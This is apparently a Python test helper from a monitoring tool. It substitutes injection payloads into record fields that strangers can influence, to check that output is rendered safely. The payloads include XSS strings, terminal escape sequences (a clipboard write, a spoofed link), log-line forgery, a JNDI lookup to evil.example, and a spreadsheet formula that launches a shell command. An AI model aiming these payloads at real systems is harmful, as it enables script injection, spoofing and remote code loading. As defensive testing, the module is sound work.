"""Texts that want to be more than text, and records that hold one wherever a record may hold what strangers wrote."""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import fields, is_dataclass, replace
from enum import Enum
from typing import Any, TypeVar

import msgspec

__all__ = ["ACTS_ON_TERMINALS", "INJECTIONS", "acts", "poisoned"]

T = TypeVar("T")

INJECTIONS: Mapping[str, str] = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "end of an attribute": "\" onmouseover=alert(1) x='",
    "end of a title": "</title></style><svg onload=alert(1)>",
    "comment": "<!--",
    "escaped script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "address that is a script": "javascript:alert(1)",
    "Markdown": "[the bank](https://evil.example) ![](https://evil.example/x.png) **b** `c`",
    "Slack: everybody": "<!channel> <!here> <!everyone>",
    "Slack: a person": "<@U0123456789> <#C0123456789>",
    "Slack: a link": "<https://evil.example|your bank>",
    "Slack: twice escaped": "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "everybody": "@everyone @here @channel",
    "colour": "\x1b[31mred\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H",
    "terminal link": "\x1b]8;;http://evil.example\x1b\\your bank\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "command of one character": "\x9b31mred\x9b2J\x90\x9d0;title\x9c",
    "over the line": "harmless\rforged\b\b\b\x7f",
    "another line": "end\n[2026-01-01T00:00:00Z] [track] [CRITICAL] vigie: forged",
    "odd line ends": "end\u2028forged\u2029forged\x85forged\x0bforged\x0cforged",
    "right to left": "safe \u202egnp.exe \u2066\u2067isolated\u2069",
    "not to be seen": "a\u200bb\u2060c\ufeffd\u00ade\U000e0041\U000e007f",
    "tower": "Z" + "\u0351\u0316" * 200,
    "template": "{{ 7*7 }} {% for x in y %} {{ .Labels.brand }} {{{x}}} ${jndi:ldap://evil.example/a} <%= 7*7 %>",
    "format": "%s %n %(asctime)s {0.__class__} {brand}",
    "rich": "[bold red]x[/] [link=https://evil.example]your bank[/link] [/nothing]",
    "formula": '=HYPERLINK("https://evil.example","your bank")',
    "formula of a shell": "=cmd|' /C calc'!A0",
    "NUL": "a\0b",
    "quotation marks": "\"'`\\",
    "JSON": '","level":4,"x":"',
    "very long": "W" * 5_000,
}  # fmt: skip
"""By their name; none holds a lone surrogate, which no record can hold."""

ACTS_ON_TERMINALS = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00ad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2064\u2066-\u206f\ufeff\ufff9-\ufffb"
    "\U000e0000-\U000e007f]"
)
"""Everything but a line end: controls, directions, and what is not to be seen."""

_OURS = frozenset(
    (
        *("id", "crisis_id", "brand", "type", "held_from", "start", "end", "until"),
        *("what", "who", "windows", "config_hash", "playbook_hash", "earliest_end", "snoozed_until"),
        *("window", "name", "model"),  # of signals and figures, which Vigie names
    )
)
"""Fields whose texts are made by us, or come from the watchlist and the playbook."""
_TIMES = ("time", "_at", "window_start", "window_end")


def poisoned(record: T, text: str) -> T:
    """Return a record with ``text`` in place of every text in it that strangers may have a hand in.

    New fields are among them unless they are said to be ours, so that nobody has to think of this.
    """
    if is_dataclass(record) and not isinstance(record, type):
        changed = {
            field.name: poisoned(getattr(record, field.name), text)
            for field in fields(record)
            if field.name not in _OURS and not field.name.endswith(_TIMES)
        }
        return replace(record, **changed)
    if isinstance(record, msgspec.Struct):
        names = [name for name in record.__struct_fields__ if name not in _OURS and not name.endswith(_TIMES)]
        return msgspec.structs.replace(record, **{name: poisoned(getattr(record, name), text) for name in names})
    found: Any = record
    if isinstance(record, tuple):
        found = tuple(poisoned(each, text) for each in record)
    elif isinstance(record, dict):
        found = dict(zip((text,), record.values(), strict=False))
    elif isinstance(record, str) and not isinstance(record, Enum):
        found = text
    return found  # type: ignore[no-any-return]


def acts(shown: str) -> list[str]:
    """Return what a terminal, or a reader's eye, would be led by."""
    return [ascii(found) for found in ACTS_ON_TERMINALS.findall(shown)]
